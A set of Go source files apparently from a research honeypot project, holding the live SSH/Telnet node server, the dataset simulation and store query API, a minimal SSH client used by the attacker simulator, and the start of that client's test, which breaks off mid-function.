package honeynet

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"time"

	"honeynet/internal/analysis"
	"honeynet/internal/fleet"
	"honeynet/internal/guard"
	"honeynet/internal/honeypot"
	"honeynet/internal/live"
	"honeynet/internal/obs"
	"honeynet/internal/sessionlog"
	"honeynet/internal/simulate"
	"honeynet/internal/store"
)

// ServeConfig describes one live, network-facing honeypot node with its
// long-run guardrails, crash-safe session log, and admin endpoint —
// everything cmd/honeypotd exposes as flags, as a library API.
type ServeConfig struct {
	// SSHAddr is the SSH listen address (default ":2222").
	SSHAddr string
	// TelnetAddr is the Telnet listen address; empty disables Telnet.
	TelnetAddr string
	// AdminAddr, if non-empty, serves /metrics, /healthz, /debug/vars,
	// and (unless built with -tags nopprof) /debug/pprof on this address.
	AdminAddr string

	// ID is the node id stamped on records (default "hp-1").
	ID string
	// Hostname is the fake hostname the emulated shell presents
	// (default "svr04").
	Hostname string
	// Timeout is the hard session deadline (default the paper's 3 min).
	Timeout time.Duration
	// Persistent retains each client's filesystem across connections.
	Persistent bool

	// MaxConns caps concurrent connections globally; the oldest
	// connection is shed at the cap (0 = unlimited).
	MaxConns int
	// MaxConnsPerIP caps concurrent connections per source IP
	// (0 = unlimited).
	MaxConnsPerIP int
	// Rate is the per-IP admission rate spec, e.g. "5/s", "300/m"
	// (empty = unlimited).
	Rate string
	// DownloadBudget caps per-IP emulated fetches per minute
	// (0 = unlimited).
	DownloadBudget int

	// LogPath writes the crash-safe rotated session log there; when
	// empty, records stream to LogOutput (and LogMaxSize is ignored).
	LogPath string
	// LogOutput receives JSONL records when LogPath is empty.
	// Required when StorePath is also empty.
	LogOutput io.Writer
	// LogMaxSize rotates the session log past this size (0 = never).
	LogMaxSize int64
	// StorePath, when non-empty, opens the embedded month-partitioned
	// session store at that directory and appends every record to it
	// (alongside the session log, or alone when no log is configured).
	// Drain seals the store so the partitions are immediately
	// queryable by hnanalyze -store and honeynet.Open.
	StorePath string
	// StoreCodec selects the block codec for segments the store seals:
	// store.CodecLZ (default) or store.CodecFlate (v1-compatible).
	StoreCodec string
	// StoreFormat selects the segment layout the store seals: "" or
	// store.FormatV2 for row blocks, store.FormatV3 for columnar
	// stripes (fastest projected scans; always LZ-compressed).
	StoreFormat string
	// StoreMaxBatch caps how many records one group-commit WAL write
	// may carry (0 = store default).
	StoreMaxBatch int
	// StoreMaxDelay bounds how long an append may wait in the
	// group-commit batch (0 = store default).
	StoreMaxDelay time.Duration

	// ForwardAddr, when non-empty, streams every stored record to the
	// fleet collector at that address (requires StorePath: the local
	// store is the durable send queue, and forwarding survives
	// restarts by resuming from the collector's cursor).
	ForwardAddr string
	// ForwardNodeID identifies this node to the collector; the
	// collector writes this node's shard under node-<id>. Defaults to
	// ID. Restricted to [A-Za-z0-9._-].
	ForwardNodeID string
	// ForwardBatch caps records per batch frame (0 = 256).
	ForwardBatch int
	// ForwardMaxDelay bounds how long an appended record may wait for
	// a batch to fill before being forwarded anyway (0 = 2ms).
	ForwardMaxDelay time.Duration
	// AckWindow caps unacknowledged in-flight records before the
	// forwarder waits for collector acks (0 = 4x ForwardBatch).
	AckWindow int

	// DrainTimeout bounds how long Drain waits for in-flight sessions
	// before force-closing them (default 30s).
	DrainTimeout time.Duration

	// LiveOff disables the streaming analytics pipeline. By default
	// every ingested record is classified, cluster-assigned, and rate-
	// tracked online (honeynet_live_* metrics, the /live admin snapshot);
	// see Server.Live.
	LiveOff bool
	// LiveOptions tunes the live pipeline; the zero value takes every
	// default (see live.Options).
	LiveOptions LiveOptions

	// OnRecord, if set, observes every session record after it is
	// written to the log.
	OnRecord func(*Record)
	// Download overrides the emulated fetcher (default
	// simulate.Fetcher(): deterministic content derived from the URI).
	Download func(uri string) ([]byte, error)
	// Registry receives every component's metrics; a fresh registry is
	// created when nil. Retrieve it via Server.Registry.
	Registry *Registry
}

func (c *ServeConfig) defaults() {
	if c.SSHAddr == "" {
		c.SSHAddr = ":2222"
	}
	if c.ID == "" {
		c.ID = "hp-1"
	}
	if c.Hostname == "" {
		c.Hostname = "svr04"
	}
	if c.DrainTimeout == 0 {
		c.DrainTimeout = 30 * time.Second
	}
	if c.Download == nil {
		c.Download = simulate.Fetcher()
	}
	if c.Registry == nil {
		c.Registry = obs.NewRegistry()
	}
}

// Server is a running honeypot node started by Serve.
type Server struct {
	cfg     ServeConfig
	node    *honeypot.Node
	writer  *sessionlog.Writer // nil when only a store is configured
	store   *store.Store       // nil unless StorePath is set
	fwd     *fleet.Forwarder   // nil unless ForwardAddr is set
	livep   *live.Pipeline     // nil when LiveOff
	limiter *guard.Limiter
	budget  *guard.Budget
	reg     *obs.Registry

	sshAddr, telnetAddr, adminAddr string
	adminLn                        net.Listener
	adminSrv                       *http.Server
}

// Serve starts a honeypot node: listeners up, guardrails armed, session
// log open, every component registered on the metrics registry, and the
// admin endpoint (if configured) serving. Callers own shutdown: call
// Drain for a graceful stop or Close to cut listeners immediately.
func Serve(cfg ServeConfig) (*Server, error) {
	cfg.defaults()
	rate, err := guard.ParseRate(cfg.Rate)
	if err != nil {
		return nil, fmt.Errorf("honeynet: rate: %w", err)
	}

	s := &Server{cfg: cfg, reg: cfg.Registry}
	switch {
	case cfg.LogPath != "":
		s.writer, err = sessionlog.Open(cfg.LogPath, sessionlog.Options{MaxSize: cfg.LogMaxSize})
		if err != nil {
			return nil, fmt.Errorf("honeynet: session log: %w", err)
		}
	case cfg.LogOutput != nil:
		s.writer = sessionlog.NewStream(cfg.LogOutput)
	case cfg.StorePath == "":
		return nil, errors.New("honeynet: ServeConfig needs LogPath, LogOutput, or StorePath")
	}
	if cfg.StorePath != "" {
		s.store, err = store.Open(cfg.StorePath, store.Options{
			Codec:    cfg.StoreCodec,
			Format:   cfg.StoreFormat,
			MaxBatch: cfg.StoreMaxBatch,
			MaxDelay: cfg.StoreMaxDelay,
		})
		if err != nil {
			if s.writer != nil {
				s.writer.Close()
			}
			return nil, fmt.Errorf("honeynet: store: %w", err)
		}
	}
	if cfg.ForwardAddr != "" {
		if s.store == nil {
			if s.writer != nil {
				s.writer.Close()
			}
			return nil, errors.New("honeynet: ForwardAddr requires StorePath (the store is the durable send queue)")
		}
		node := cfg.ForwardNodeID
		if node == "" {
			node = cfg.ID
		}
		s.fwd, err = fleet.NewForwarder(cfg.ForwardAddr, node, s.store, fleet.Options{
			Batch:     cfg.ForwardBatch,
			MaxDelay:  cfg.ForwardMaxDelay,
			AckWindow: cfg.AckWindow,
		})
		if err != nil {
			if s.writer != nil {
				s.writer.Close()
			}
			s.store.Close()
			return nil, fmt.Errorf("honeynet: forward: %w", err)
		}
	}

	if !cfg.LiveOff {
		s.livep = live.NewPipeline(cfg.LiveOptions)
	}

	s.limiter = guard.NewLimiter(guard.Config{
		MaxConns:      cfg.MaxConns,
		MaxConnsPerIP: cfg.MaxConnsPerIP,
		Rate:          rate,
	})
	if cfg.DownloadBudget > 0 {
		s.budget = &guard.Budget{MaxFetches: cfg.DownloadBudget, Window: time.Minute}
	}

	node, err := honeypot.New(honeypot.Config{
		ID:             cfg.ID,
		Hostname:       cfg.Hostname,
		Timeout:        cfg.Timeout,
		Persistent:     cfg.Persistent,
		Download:       cfg.Download,
		Guard:          s.limiter,
		DownloadBudget: s.budget,
		Sink: func(r *Record) error {
			if s.writer != nil {
				if err := s.writer.Write(r); err != nil {
					return err
				}
			}
			if s.store != nil {
				if err := s.store.Append(r); err != nil {
					return err
				}
			}
			if s.livep != nil {
				s.livep.Observe(r)
			}
			if cfg.OnRecord != nil {
				cfg.OnRecord(r)
			}
			return nil
		},
	})
	if err != nil {
		if s.writer != nil {
			s.writer.Close()
		}
		if s.store != nil {
			s.store.Close()
		}
		return nil, err
	}
	s.node = node

	node.Register(s.reg)
	s.limiter.Register(s.reg)
	s.budget.Register(s.reg)
	if s.writer != nil {
		s.writer.Register(s.reg)
	}
	if s.store != nil {
		s.store.Register(s.reg)
	}
	if s.fwd != nil {
		s.fwd.Register(s.reg)
	}
	if s.livep != nil {
		s.livep.Register(s.reg)
	}
	analysis.Register(s.reg)

	s.sshAddr, err = node.ListenSSH(cfg.SSHAddr)
	if err != nil {
		s.close()
		return nil, fmt.Errorf("honeynet: ssh: %w", err)
	}
	if cfg.TelnetAddr != "" {
		s.telnetAddr, err = node.ListenTelnet(cfg.TelnetAddr)
		if err != nil {
			s.close()
			return nil, fmt.Errorf("honeynet: telnet: %w", err)
		}
	}
	if cfg.AdminAddr != "" {
		if err := s.serveAdmin(cfg.AdminAddr); err != nil {
			s.close()
			return nil, fmt.Errorf("honeynet: admin: %w", err)
		}
	}
	return s, nil
}

// serveAdmin starts the admin HTTP listener.
func (s *Server) serveAdmin(addr string) error {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return err
	}
	s.adminLn = ln
	s.adminAddr = ln.Addr().String()
	var routes []obs.Route
	if s.livep != nil {
		routes = append(routes, obs.Route{Pattern: "/live", Handler: s.livep.Handler()})
	}
	mux := obs.AdminMux(s.reg, func() error {
		if s.node.Draining() {
			return errors.New("draining")
		}
		return nil
	}, routes...)
	s.adminSrv = &http.Server{Handler: mux}
	go func() { _ = s.adminSrv.Serve(ln) }()
	return nil
}

// SSHAddr returns the bound SSH address.
func (s *Server) SSHAddr() string { return s.sshAddr }

// TelnetAddr returns the bound Telnet address ("" when disabled).
func (s *Server) TelnetAddr() string { return s.telnetAddr }

// AdminAddr returns the bound admin address ("" when disabled).
func (s *Server) AdminAddr() string { return s.adminAddr }

// Registry returns the metrics registry every component reports to.
func (s *Server) Registry() *Registry { return s.reg }

// Metrics returns the node's operational counters.
func (s *Server) Metrics() honeypot.Metrics { return s.node.Metrics() }

// Log returns the session-log writer (counters, rotation state), or
// nil when the node writes only to a store.
func (s *Server) Log() *sessionlog.Writer { return s.writer }

// Forwarder returns the fleet forwarder (lag, ack state), or nil when
// ForwardAddr is unset.
func (s *Server) Forwarder() *fleet.Forwarder { return s.fwd }

// Live returns the streaming analytics pipeline, or nil when LiveOff.
func (s *Server) Live() *live.Pipeline { return s.livep }

// Drain gracefully shuts the server down: stop accepting, wait up to
// DrainTimeout for in-flight sessions (then force-close them), append a
// final metrics snapshot to the session log, flush and close the log,
// seal and close the session store, and stop the admin endpoint. It
// returns how many connections had to be force-closed. /healthz turns
// unhealthy for the duration.
func (s *Server) Drain(reason string) (forced int, err error) {
	forced = s.node.Drain(s.cfg.DrainTimeout)
	var errs []error
	if s.fwd != nil {
		// Give the collector a chance to confirm everything local, then
		// stop forwarding; unacked records stay queued in the store and
		// a restarted node resumes from the collector's cursor.
		s.fwd.WaitCaughtUp(s.cfg.DrainTimeout)
		errs = append(errs, s.fwd.Close())
	}
	if s.writer != nil {
		errs = append(errs, s.writer.WriteSnapshot(sessionlog.Snapshot{
			Time:    time.Now().UTC(),
			Reason:  reason,
			Metrics: s.reg.Snapshot(),
		}))
		errs = append(errs, s.writer.Close())
	}
	if s.store != nil {
		errs = append(errs, s.store.Close())
	}
	errs = append(errs, s.closeAdmin())
	return forced, errors.Join(errs...)
}

// Close cuts all listeners immediately without draining in-flight
// sessions or sealing the log with a snapshot.
func (s *Server) Close() error { return s.close() }

func (s *Server) close() error {
	var errs []error
	if s.node != nil {
		errs = append(errs, s.node.Close())
	}
	if s.fwd != nil {
		errs = append(errs, s.fwd.Close())
	}
	if s.writer != nil {
		errs = append(errs, s.writer.Close())
	}
	if s.store != nil {
		errs = append(errs, s.store.Close())
	}
	errs = append(errs, s.closeAdmin())
	return errors.Join(errs...)
}

func (s *Server) closeAdmin() error {
	if s.adminSrv == nil {
		return nil
	}
	srv := s.adminSrv
	s.adminSrv = nil
	return srv.Close()
}
