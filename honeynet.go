// Package honeynet reproduces the measurement system of "Attacks Come to
// Those Who Wait: Long-Term Observations in an SSH Honeynet" (IMC 2025):
// a Cowrie-style medium-interaction SSH/Telnet honeypot built on a
// from-scratch SSH stack, a deterministic 33-month attacker simulation
// standing in for the unobtainable production traces, and one analyzer
// per table and figure of the paper's evaluation.
//
// This package is the facade. The building blocks live under internal/:
//
//   - sshwire, sshd, sshclient: SSH transport (RFC 4253), server, client
//   - telnetd: the Telnet endpoint
//   - shell, vfs: the emulated Unix shell and virtual filesystem
//   - honeypot: one network-facing honeypot node
//   - session, collector: the session record model and database
//   - botnet, simulate: the attacker models and the dataset generator
//   - classify, textdist, cluster: Table 1 signatures, token DLD, K-medoids
//   - asdb, abusedb: the AS registry and abuse-feed substrates
//   - analysis, report: per-figure analyzers and table rendering
//
// Quick start:
//
//	p, err := honeynet.Simulate(honeynet.SimOptions{Scale: 2000, Seed: 42})
//	if err != nil { ... }
//	err = p.RunAll(os.Stdout, analysis.ClusterConfig{K: 90})
package honeynet

import (
	"io"

	"honeynet/internal/analysis"
	"honeynet/internal/core"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
)

// Pipeline is a dataset plus every analyzer input; see internal/core.
type Pipeline = core.Pipeline

// SimOptions selects the scale and seed of a dataset generation run.
type SimOptions struct {
	// Scale divides paper-scale session volumes (default 1000).
	Scale float64
	// Seed fixes the run.
	Seed int64
}

// Simulate generates the synthetic 33-month dataset and returns the
// analysis pipeline over it.
func Simulate(opts SimOptions) (*Pipeline, error) {
	return core.Simulate(simulate.Config{Scale: opts.Scale, Seed: opts.Seed})
}

// Load builds a pipeline over records previously written as JSONL (for
// example by cmd/hnsim or a live cmd/honeypotd).
func Load(r io.Reader) (*Pipeline, error) {
	recs, err := session.ReadAll(r)
	if err != nil {
		return nil, err
	}
	return core.FromRecords(recs, nil), nil
}

// ClusterConfig re-exports the section 6 clustering parameters.
type ClusterConfig = analysis.ClusterConfig
