// Package honeynet reproduces the measurement system of "Attacks Come to
// Those Who Wait: Long-Term Observations in an SSH Honeynet" (IMC 2025):
// a Cowrie-style medium-interaction SSH/Telnet honeypot built on a
// from-scratch SSH stack, a deterministic 33-month attacker simulation
// standing in for the unobtainable production traces, and one analyzer
// per table and figure of the paper's evaluation.
//
// This package is the facade. The building blocks live under internal/:
//
//   - sshwire, sshd, sshclient: SSH transport (RFC 4253), server, client
//   - telnetd: the Telnet endpoint
//   - shell, vfs: the emulated Unix shell and virtual filesystem
//   - honeypot: one network-facing honeypot node
//   - session, collector: the session record model and database
//   - botnet, simulate: the attacker models and the dataset generator
//   - classify, textdist, cluster: Table 1 signatures, token DLD, K-medoids
//   - asdb, abusedb: the AS registry and abuse-feed substrates
//   - analysis, report: per-figure analyzers and table rendering
//   - obs: the metrics registry, exposition, and phase tracer
//   - guard, sessionlog: long-run connection guardrails and the
//     crash-safe session log
//   - store: the embedded month-partitioned session store with a
//     streaming query engine (see [Open] and ServeConfig.StorePath)
//
// Quick start:
//
//	p, err := honeynet.Simulate(honeynet.WithScale(2000), honeynet.WithSeed(42))
//	if err != nil { ... }
//	err = p.RunAll(os.Stdout, analysis.ClusterConfig{K: 90})
//
// To run a live honeypot node, see [Serve].
package honeynet

import (
	"io"

	"honeynet/internal/analysis"
	"honeynet/internal/core"
	"honeynet/internal/live"
	"honeynet/internal/obs"
	"honeynet/internal/query"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
	"honeynet/internal/store"
)

// Pipeline is a dataset plus every analyzer input; see internal/core.
type Pipeline = core.Pipeline

// Record is one honeypot session as stored in the honeynet database.
type Record = session.Record

// ClusterConfig re-exports the section 6 clustering parameters.
type ClusterConfig = analysis.ClusterConfig

// Tracer aggregates named phase timings; pass one via WithObserver to
// time a run the way hnanalyze -timings does.
type Tracer = obs.Tracer

// NewTracer returns an empty phase tracer.
func NewTracer() *Tracer { return obs.NewTracer() }

// Registry is a metrics registry with Prometheus text exposition; see
// internal/obs. ServeConfig accepts one so several components can share
// a scrape endpoint.
type Registry = obs.Registry

// NewRegistry returns an empty metrics registry.
func NewRegistry() *Registry { return obs.NewRegistry() }

// LivePipeline is the streaming analytics engine Serve runs on the
// ingest path: online classification, incremental cluster assignment,
// and campaign/wave detection. See internal/live.
type LivePipeline = live.Pipeline

// LiveOptions tunes the live pipeline (ServeConfig.LiveOptions).
type LiveOptions = live.Options

// LiveSnapshot is the /live JSON document (LivePipeline.Snapshot).
type LiveSnapshot = live.Snapshot

// config collects what the functional options tune.
type config struct {
	scale       float64
	seed        int64
	workers     int
	tracer      *obs.Tracer
	matrixCache string
	storeDir    string
	storeCodec  string
	storeFormat string
}

// Option tunes Simulate and Load. Options are applied in order; the
// zero-config defaults match the paper-scale run divided by 1000.
type Option interface {
	apply(*config)
}

type optionFunc func(*config)

func (f optionFunc) apply(c *config) { f(c) }

// WithScale divides paper-scale session volumes (default 1000: the
// 546M-session window becomes ~546k sessions).
func WithScale(scale float64) Option {
	return optionFunc(func(c *config) { c.scale = scale })
}

// WithSeed fixes the run: the same seed produces a byte-identical
// dataset for any worker count.
func WithSeed(seed int64) Option {
	return optionFunc(func(c *config) { c.seed = seed })
}

// WithWorkers caps the goroutines used for simulation and analysis
// (<= 0 means runtime.NumCPU(), 1 is fully serial). Results are
// identical for every value.
func WithWorkers(n int) Option {
	return optionFunc(func(c *config) { c.workers = n })
}

// WithObserver attaches a phase tracer: simulation and analysis record
// per-phase wall time on it. The tracer only observes the clock —
// results are identical with or without one.
func WithObserver(t *Tracer) Option {
	return optionFunc(func(c *config) { c.tracer = t })
}

// WithMatrixCache stores the clustering pipeline's pairwise DLD matrix
// under dir, keyed by a content hash of the sampled texts and the
// distance-kernel version, and reuses it on later runs over the same
// dataset. The cache only skips recomputation — results are identical
// with or without it, and a stale or corrupt entry is recomputed, never
// trusted.
func WithMatrixCache(dir string) Option {
	return optionFunc(func(c *config) { c.matrixCache = dir })
}

// WithStore persists the simulated dataset into the embedded
// month-partitioned session store at dir (see internal/store): sealed,
// compressed, indexed partitions that Open, hnanalyze -store, and a
// live honeypotd -store all share. Appends accumulate, so point each
// simulation at a fresh directory unless accumulation is intended.
func WithStore(dir string) Option {
	return optionFunc(func(c *config) { c.storeDir = dir })
}

// WithCodec selects the block codec for segments sealed by WithStore:
// store.CodecLZ (the default: the fast in-tree LZ codec, v2 segments)
// or store.CodecFlate (DEFLATE, v1 segments byte-compatible with older
// stores). Reading is unaffected — every store opens with whatever
// codec its manifest records. Query output is byte-identical across
// codecs.
func WithCodec(name string) Option {
	return optionFunc(func(c *config) { c.storeCodec = name })
}

// WithFormat selects the segment layout for segments sealed by
// WithStore: store.FormatV2 (the default row layout: blocks of whole
// records, WithCodec applies) or store.FormatV3 (columnar: per-field
// stripes, always LZ-compressed, fastest projected scans). Reading is
// unaffected — every store opens with whatever layout its manifest
// records, and formats mix freely within one store. Query output is
// byte-identical across formats.
func WithFormat(name string) Option {
	return optionFunc(func(c *config) { c.storeFormat = name })
}

// SimOptions selects the scale and seed of a dataset generation run.
//
// Deprecated: use the functional options (WithScale, WithSeed, ...)
// instead. SimOptions implements Option, so existing
// Simulate(SimOptions{...}) calls keep working.
type SimOptions struct {
	// Scale divides paper-scale session volumes (default 1000).
	Scale float64
	// Seed fixes the run.
	Seed int64
}

func (o SimOptions) apply(c *config) {
	c.scale = o.Scale
	c.seed = o.Seed
}

// Simulate generates the synthetic 33-month dataset and returns the
// analysis pipeline over it.
func Simulate(opts ...Option) (*Pipeline, error) {
	var c config
	for _, o := range opts {
		o.apply(&c)
	}
	p, err := core.Simulate(simulate.Config{
		Scale:   c.scale,
		Seed:    c.seed,
		Workers: c.workers,
		Tracer:  c.tracer,
	})
	if err != nil {
		return nil, err
	}
	p.World.MatrixCache = c.matrixCache
	if c.storeDir != "" {
		if err := persistStore(c.storeDir, c.storeCodec, c.storeFormat, p.World.Store.All()); err != nil {
			return nil, err
		}
	}
	return p, nil
}

// persistStore seals records into the session store at dir.
func persistStore(dir, codec, format string, recs []*session.Record) error {
	st, err := store.Open(dir, store.Options{Codec: codec, Format: format})
	if err != nil {
		return err
	}
	for _, r := range recs {
		if err := st.Append(r); err != nil {
			st.Close()
			return err
		}
	}
	return st.Close()
}

// Load builds a pipeline over records previously written as JSONL (for
// example by cmd/hnsim or a live cmd/honeypotd). Only WithWorkers,
// WithObserver, and WithMatrixCache apply to a loaded dataset. Figures that join on the
// simulation-populated feeds render empty for loaded datasets; the
// returned Pipeline's MissingJoins field names the substituted
// databases.
func Load(r io.Reader, opts ...Option) (*Pipeline, error) {
	var c config
	for _, o := range opts {
		o.apply(&c)
	}
	recs, err := session.ReadAll(r)
	if err != nil {
		return nil, err
	}
	p := core.FromRecords(recs, nil)
	p.World.Workers = c.workers
	p.World.Tracer = c.tracer
	p.World.MatrixCache = c.matrixCache
	return p, nil
}

// Open builds a pipeline over a session store directory previously
// written by Simulate(WithStore), cmd/hnsim -store, or a live
// cmd/honeypotd -store. Sealed segments are decompressed in parallel
// and records are restored in exact append order, so figure output is
// byte-identical to the equivalent Load over JSONL. Only WithWorkers,
// WithObserver, and WithMatrixCache apply; as with Load, figures that
// join on simulation-only feeds render empty (see Pipeline.MissingJoins).
//
// A fleet directory written by cmd/hncollect (per-node shards under
// node-<id>/) opens transparently: shards are scatter-gathered and the
// records merged into the fleet's canonical (time, node, seq) order, so
// the same analyses run unchanged over a whole fleet.
func Open(dir string, opts ...Option) (*Pipeline, error) {
	var c config
	for _, o := range opts {
		o.apply(&c)
	}
	p, err := streamStoreDir(dir)
	if err != nil {
		return nil, err
	}
	p.World.Workers = c.workers
	p.World.Tracer = c.tracer
	p.World.MatrixCache = c.matrixCache
	return p, nil
}

// QueryResult is a finished hnquery-DSL statement: tabular rows for
// projections and aggregates, full records for SELECT *, the plan
// statistics, and — for EXPLAIN statements — the rendered plan.
type QueryResult = query.Result

// Query runs one hnquery-DSL statement against a session store (or
// fleet) directory without materializing the dataset:
//
//	res, err := honeynet.Query(dir,
//	    `SELECT month, count(*) WHERE proto = 'ssh' GROUP BY month ORDER BY month`)
//
// The statement compiles to a structured store.Query with full
// predicate pushdown: time predicates prune via sealed segment bounds,
// `ip =` predicates route through the per-segment Bloom filters, and
// kind/protocol-only aggregates answer from sealed metadata with zero
// block reads. Prefix the statement with EXPLAIN to get the chosen
// plan and its pruning statistics in QueryResult.Explain. A fleet
// directory scatter-gathers across its per-node shards transparently.
func Query(dir, stmt string) (*QueryResult, error) {
	if store.IsFleetDir(dir) {
		fl, err := store.OpenFleet(dir, store.Options{ReadOnly: true})
		if err != nil {
			return nil, err
		}
		defer fl.Close()
		return query.Run(fl, stmt)
	}
	st, err := store.Open(dir, store.Options{ReadOnly: true})
	if err != nil {
		return nil, err
	}
	defer st.Close()
	return query.Run(st, stmt)
}

// streamStoreDir streams every record of a store or fleet directory
// into a pipeline, one at a time in exact canonical order — identical
// output to the old materializing Load, with peak memory bounded by
// the collector's working set instead of twice the dataset.
func streamStoreDir(dir string) (*core.Pipeline, error) {
	if store.IsFleetDir(dir) {
		fl, err := store.OpenFleet(dir, store.Options{ReadOnly: true})
		if err != nil {
			return nil, err
		}
		defer fl.Close()
		return core.FromRecordCursor(fl.Stream(), nil)
	}
	st, err := store.Open(dir, store.Options{ReadOnly: true})
	if err != nil {
		return nil, err
	}
	defer st.Close()
	src := st.Stream()
	defer src.Close()
	return core.FromRecordCursor(src, nil)
}
