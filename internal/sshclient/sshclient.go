// Package sshclient is a minimal SSH client built on internal/sshwire.
// The attacker simulator uses it to drive real SSH sessions against the
// honeypot: password auth, exec requests, and interactive shells.
package sshclient

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"honeynet/internal/sshwire"
)

// ErrAuthFailed is returned when the server rejects the credentials.
var ErrAuthFailed = errors.New("sshclient: authentication failed")

// Config parameterizes Dial.
type Config struct {
	// User and Password authenticate the connection. Dial fails with
	// ErrAuthFailed if they are rejected.
	User     string
	Password string
	// Version is the client banner; defaults to sshwire.DefaultClientVersion.
	Version string
	// Timeout bounds dial + handshake + auth. Zero means 30 seconds.
	Timeout time.Duration
}

func (c *Config) timeout() time.Duration {
	if c.Timeout > 0 {
		return c.Timeout
	}
	return 30 * time.Second
}

// Client is an authenticated SSH connection.
type Client struct {
	conn *sshwire.Conn
	mux  *sshwire.Mux
}

// Dial connects to addr, performs the SSH handshake, and authenticates
// with the configured password.
func Dial(addr string, cfg Config) (*Client, error) {
	nc, err := net.DialTimeout("tcp", addr, cfg.timeout())
	if err != nil {
		return nil, err
	}
	c, err := NewClientConn(nc, cfg)
	if err != nil {
		nc.Close()
		return nil, err
	}
	return c, nil
}

// NewClientConn runs the SSH client protocol over an existing connection.
func NewClientConn(nc net.Conn, cfg Config) (*Client, error) {
	conn, err := sshwire.ClientHandshake(nc, &sshwire.Config{
		Version:          cfg.Version,
		HandshakeTimeout: cfg.timeout(),
	})
	if err != nil {
		return nil, err
	}
	_ = nc.SetDeadline(time.Now().Add(cfg.timeout()))
	if err := conn.RequestService("ssh-userauth"); err != nil {
		return nil, err
	}
	if err := authPassword(conn, cfg.User, cfg.Password); err != nil {
		return nil, err
	}
	_ = nc.SetDeadline(time.Time{})
	return &Client{conn: conn, mux: sshwire.NewMux(conn)}, nil
}

func authPassword(conn *sshwire.Conn, user, password string) error {
	b := sshwire.NewBuilder(64)
	b.Byte(sshwire.MsgUserauthRequest)
	b.StringS(user)
	b.StringS("ssh-connection")
	b.StringS("password")
	b.Bool(false)
	b.StringS(password)
	if err := conn.WritePacket(b.Bytes()); err != nil {
		return err
	}
	for {
		payload, err := conn.ReadPacket()
		if err != nil {
			return err
		}
		switch payload[0] {
		case sshwire.MsgUserauthSuccess:
			return nil
		case sshwire.MsgUserauthFailure:
			return ErrAuthFailed
		case sshwire.MsgUserauthBanner:
			continue
		default:
			return fmt.Errorf("sshclient: unexpected auth reply %s", sshwire.MsgName(payload[0]))
		}
	}
}

// Close tears down the connection.
func (c *Client) Close() error { return c.mux.Close() }

// ServerVersion returns the server's identification string.
func (c *Client) ServerVersion() string { return c.conn.RemoteVersion() }

// ExecResult is the outcome of an Exec call.
type ExecResult struct {
	Output     []byte
	ExitStatus uint32
	// HasExit reports whether the server sent an exit-status.
	HasExit bool
}

// Exec runs a single command via an RFC 4254 exec request and collects
// all output until the channel closes.
func (c *Client) Exec(command string) (*ExecResult, error) {
	ch, err := c.mux.OpenChannel("session", nil)
	if err != nil {
		return nil, err
	}
	defer ch.Close()

	b := sshwire.NewBuilder(4 + len(command))
	b.StringS(command)
	ok, err := ch.SendRequest("exec", true, b.Bytes())
	if err != nil {
		return nil, err
	}
	if !ok {
		return nil, errors.New("sshclient: exec request rejected")
	}

	res := &ExecResult{}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for req := range ch.Requests() {
			if req.Type == "exit-status" {
				r := sshwire.NewReader(req.Payload)
				res.ExitStatus = r.Uint32()
				res.HasExit = true
			}
			_ = req.Reply(false)
		}
	}()

	var buf bytes.Buffer
	if _, err := io.Copy(&buf, ch); err != nil && !errors.Is(err, io.EOF) {
		return nil, err
	}
	<-done
	res.Output = buf.Bytes()
	return res, nil
}

// Shell opens an interactive shell with a pty and returns a driver for
// line-oriented interaction.
func (c *Client) Shell() (*Shell, error) {
	ch, err := c.mux.OpenChannel("session", nil)
	if err != nil {
		return nil, err
	}
	pty := sshwire.NewBuilder(64)
	pty.StringS("xterm")
	pty.Uint32(80).Uint32(24).Uint32(0).Uint32(0)
	pty.StringS("") // terminal modes
	if _, err := ch.SendRequest("pty-req", true, pty.Bytes()); err != nil {
		ch.Close()
		return nil, err
	}
	ok, err := ch.SendRequest("shell", true, nil)
	if err != nil {
		ch.Close()
		return nil, err
	}
	if !ok {
		ch.Close()
		return nil, errors.New("sshclient: shell request rejected")
	}
	sh := &Shell{ch: ch}
	go sh.drainRequests()
	return sh, nil
}

// Shell drives a remote interactive shell line by line.
type Shell struct {
	ch      *sshwire.Channel
	pending bytes.Buffer
}

func (s *Shell) drainRequests() {
	for req := range s.ch.Requests() {
		_ = req.Reply(false)
	}
}

// ReadUntil reads output until the marker appears or the channel closes,
// returning everything read (marker included when found).
func (s *Shell) ReadUntil(marker string) (string, error) {
	buf := make([]byte, 4096)
	for {
		if i := strings.Index(s.pending.String(), marker); i >= 0 {
			out := s.pending.String()[:i+len(marker)]
			rest := s.pending.String()[i+len(marker):]
			s.pending.Reset()
			s.pending.WriteString(rest)
			return out, nil
		}
		n, err := s.ch.Read(buf)
		if n > 0 {
			s.pending.Write(buf[:n])
		}
		if err != nil {
			out := s.pending.String()
			s.pending.Reset()
			return out, err
		}
	}
}

// Run sends one command line and reads output until the next prompt
// marker. A honeypot prompt ends with "# ".
func (s *Shell) Run(line, promptMarker string) (string, error) {
	if _, err := s.ch.Write([]byte(line + "\n")); err != nil {
		return "", err
	}
	return s.ReadUntil(promptMarker)
}

// Write sends raw bytes to the shell.
func (s *Shell) Write(p []byte) (int, error) { return s.ch.Write(p) }

// Close terminates the shell channel.
func (s *Shell) Close() error { return s.ch.Close() }

// OpenRaw opens an arbitrary channel type; tests use it to probe server
// channel-type policy.
func (c *Client) OpenRaw(chanType string, extra []byte) (*sshwire.Channel, error) {
	return c.mux.OpenChannel(chanType, extra)
}
