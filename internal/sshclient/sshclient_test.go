package sshclient

import (
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"testing"
	"time"

	"honeynet/internal/sshd"
	"honeynet/internal/sshwire"
)

// startEcho runs an sshd whose sessions echo exec commands and whose
// shell emits a prompt.
func startEcho(t *testing.T) string {
	t.Helper()
	hk, err := sshwire.GenerateHostKey()
	if err != nil {
		t.Fatal(err)
	}
	srv, err := sshd.New(sshd.Config{
		HostKey: hk,
		Auth:    func(_ sshd.ConnMeta, user, pass string) bool { return pass == "letmein" },
		Handler: func(s *sshd.Session) {
			if s.Command != "" {
				fmt.Fprintf(s, "ran:%s", s.Command)
				_ = s.Exit(42)
				return
			}
			io.WriteString(s, "$ ")
